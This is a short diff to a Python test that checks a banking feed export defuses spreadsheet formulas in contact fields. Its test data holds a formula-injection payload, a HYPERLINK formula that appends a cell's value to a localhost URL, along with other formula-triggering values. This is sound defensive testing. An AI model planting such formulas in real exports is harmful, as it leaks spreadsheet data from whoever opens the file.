@@ -72,7 +72,7 @@ def test_formulas_of_a_feed_are_handed_out_defused_mended_and_fed_again(bank: Ba
     attack = '=HYPERLINK("http://127.0.0.1/?"&A2,"x")'
     people = [contact(number) for number in range(2, 41)]
     books = [loan(number) for number in range(1, 41)]
-    bad = contact(1, person_name=attack, phone="-1", source="'@x")
+    bad = contact(1, person_name=attack, phone="-1", address="", source="'@x")
     run = bank.send(DAY, [arrears(2)], loans=books, contacts=[bad, *people])
     files: dict[str, list[str]] = {"safe": [], "raw": ["--raw"]}
     for name, more in files.items():
